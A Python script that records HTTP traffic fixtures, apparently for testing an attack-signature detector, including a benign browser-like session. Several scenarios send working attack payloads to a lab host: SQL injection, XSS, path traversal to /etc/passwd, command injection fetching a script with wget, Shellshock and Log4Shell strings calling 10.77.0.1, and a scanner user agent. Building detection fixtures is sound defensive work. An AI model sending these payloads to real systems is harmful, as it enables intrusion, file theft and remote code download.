#!/usr/bin/env python3
"""HTTP clients for recording stream fixtures (scripts/record-fixtures.sh).

    http-stream-client.py SCENARIO HOST PORT [PASSWORD]

Scenarios:
  keepalive-attacks  one keep-alive connection (http.client): a benign request, then one request
                     per payload-signature class, each after the first
  pipelined          one connection, five requests written at once (pipelining), then the answers
  split              requests written in 3-4 pieces with pauses (TCP_NODELAY: one segment each),
                     the pieces cut through the attack strings
  benign-keepalive   two keep-alive connections of 40+ browser-like requests each (pages, assets,
                     a search form, a JSON API call, a form login mistyped once then right, a
                     Basic-auth page: its challenge, then the right credentials); PASSWORD is the
                     application's
"""
import http.client
import json
import re
import socket
import sys
import time

SCENARIO, HOST, PORT = sys.argv[1], sys.argv[2], int(sys.argv[3])
BROWSER = {
    "User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    "Accept-Language": "en-GB,en;q=0.5",
}


def keepalive(requests):
    """Sends every request on one connection; fails if the connection was not kept."""
    conn = http.client.HTTPConnection(HOST, PORT, timeout=10)
    first_sock = None
    for method, path, headers, body in requests:
        conn.request(method, path, body=body, headers=headers)
        if first_sock is None:
            first_sock = conn.sock
        resp = conn.getresponse()
        resp.read()
        same = "same connection" if conn.sock is first_sock else "NEW CONNECTION"
        print(f"    {resp.status} {method} {path[:70]} ({same})")
        if conn.sock is not first_sock:
            sys.exit("keep-alive was not kept")
    conn.close()


def raw(pieces, pause=0.0, answers=0):
    """Writes the pieces (one segment each with a pause), then reads until `answers` status lines came."""
    s = socket.create_connection((HOST, PORT), timeout=10)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    for i, p in enumerate(pieces):
        if i > 0 and pause > 0:
            time.sleep(pause)
        s.sendall(p)
    got = b""
    deadline = time.time() + 10
    while got.count(b"HTTP/1.1 ") < answers and time.time() < deadline:
        chunk = s.recv(65536)
        if not chunk:
            break
        got += chunk
    statuses = [m.decode() for m in re.findall(rb"HTTP/1\.1 ([0-9]{3}) ", got)]
    print(f"    {len(pieces)} piece(s) written, answers: {' '.join(statuses)}")
    s.close()
    if len(statuses) < answers:
        sys.exit(f"expected {answers} answers, got {len(statuses)}")


def req(method, path, headers=None, body=None):
    h = {"Host": f"{HOST}:{PORT}"}
    if body is not None:
        h["Content-Length"] = str(len(body))
    h.update(headers or {})
    head = f"{method} {path} HTTP/1.1\r\n" + "".join(f"{k}: {v}\r\n" for k, v in h.items()) + "\r\n"
    return head.encode("latin1") + (body or b"")


if SCENARIO == "keepalive-attacks":
    ua = {"User-Agent": "python-requests/2.31.0"}
    keepalive([
        ("GET", "/index.html", ua, None),
        ("GET", "/item?id=1%27%20OR%20%271%27=%271", ua, None),  # SQL_INJECTION
        ("GET", "/search?q=%3Cscript%3Ealert(document.domain)%3C/script%3E", ua, None),  # XSS
        ("GET", "/static/../../../../etc/passwd", ua, None),  # PATH_TRAVERSAL
        ("GET", "/ping?host=127.0.0.1%7Ccat%20/etc/hosts", ua, None),  # COMMAND_INJECTION
        ("GET", "/cgi-bin/status", {"User-Agent": "() { :; }; echo; /bin/cat /etc/passwd"}, None),  # SHELLSHOCK
        ("GET", "/", {**ua, "X-Api-Version": "${${lower:j}ndi:ldap://10.77.0.1:1389/a}"}, None),  # LOG4SHELL
        ("GET", "/robots.txt", {"User-Agent": "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)"}, None),  # SCANNER_USER_AGENT
        ("GET", "/index.html", ua, None),
    ])
elif SCENARIO == "pipelined":
    raw([
        req("GET", "/index.html")
        + req("GET", "/item?id=2%20UNION%20ALL%20SELECT%20username,password%20FROM%20users--")  # SQL_INJECTION
        + req("GET", "/page", {"Referer": "http://10.77.0.2:8080/\"><svg/onload=alert(1)>"})  # XSS in a header
        + req("POST", "/api/ping", {"Content-Type": "application/x-www-form-urlencoded"}, b"host=8.8.8.8%3B%20wget%20http%3A%2F%2F10.77.0.1%2Fx.sh")  # COMMAND_INJECTION
        + req("GET", "/index.html"),
    ], answers=5)
elif SCENARIO == "split":
    # Each attack string is cut across segments: no single packet holds it.
    raw([b"GET /item?id=1%27%20UNI", b"ON%20SEL", b"ECT%201,2,3--%20 HTTP/1.1\r\nHost: 10.77.0.2:8080\r\nUser-A", b"gent: curl/7.88.1\r\n\r\n"], pause=0.3, answers=1)
    raw([b"GET /cgi-bin/status HTTP/1.1\r\nHost: 10.77.0.2:8080\r\nUser-Agent: () {", b" :; }; /bin/b", b"ash -c 'id'\r\n\r\n"], pause=0.3, answers=1)
    raw([b"GET / HTTP/1.1\r\nHost: 10.77.0.2:8080\r\nX-Forwarded-For: ${jn", b"di:ld", b"ap://10.77.0.1/x}\r\n", b"\r\n"], pause=0.3, answers=1)
elif SCENARIO == "benign-keepalive":
    password = sys.argv[4]
    basic = "Basic " + __import__("base64").b64encode(f"admin:{password}".encode()).decode()
    assets = ["/static/site.css", "/static/app.js?v=1.4.2", "/favicon.ico", "/img/logo.png", "/img/photo-1.jpg", "/fonts/inter.woff2"]
    pages = ["/", "/news/", "/news/linux-6-9-released.html?utm_source=rss&utm_medium=feed", "/about.html", "/blog/2024/05/tuning-tcp.html",
             "/search?q=select+a+good+linux+distro&page=2", "/search?q=%22union+station%22+cafe+%26+bar", "/docs/api.html#auth"]
    cookie = "session=6f1c2a9e0b7d4c3f; theme=dark; consent=analytics%3Dno%26ads%3Dno"
    base = f"http://{HOST}:{PORT}"
    for conn_no in range(2):
        reqs = []
        prev = base + "/"
        for page in pages[conn_no::2] + pages[: 1 + conn_no]:
            reqs.append(("GET", page, {**BROWSER, "Referer": prev, "Cookie": cookie}, None))
            for a in assets:
                reqs.append(("GET", a, {**BROWSER, "Accept": "*/*", "Referer": base + page, "Cookie": cookie}, None))
            prev = base + page
        form = {"Content-Type": "application/x-www-form-urlencoded", "Referer": base + "/login"}
        reqs += [
            ("POST", "/search", {**BROWSER, **form, "Cookie": cookie}, b"q=O%27Brien+%26+sons+-+select+committee&lang=en"),
            ("POST", "/api/items", {**BROWSER, "Content-Type": "application/json", "Cookie": cookie},
             json.dumps({"query": "SELECT-ed items & <b>bold</b> offers", "page": 2, "filters": {"price": "10-20", "path": "docs/readme.md"}}).encode()),
            # A mistyped password once, then the right one; a Basic-auth page: the challenge, then credentials.
            ("POST", "/login", {**BROWSER, **form}, b"user=admin&pass=correct-horse-battery-stapel"),
            ("POST", "/login", {**BROWSER, **form}, f"user=admin&pass={password}".encode()),
            ("GET", "/protected/report.html", {**BROWSER, "Cookie": cookie}, None),
            ("GET", "/protected/report.html", {**BROWSER, "Cookie": cookie, "Authorization": basic}, None),
            ("GET", "/protected/data.csv", {**BROWSER, "Cookie": cookie, "Authorization": basic}, None),
        ]
        keepalive(reqs)
else:
    sys.exit(f"unknown scenario {SCENARIO}")
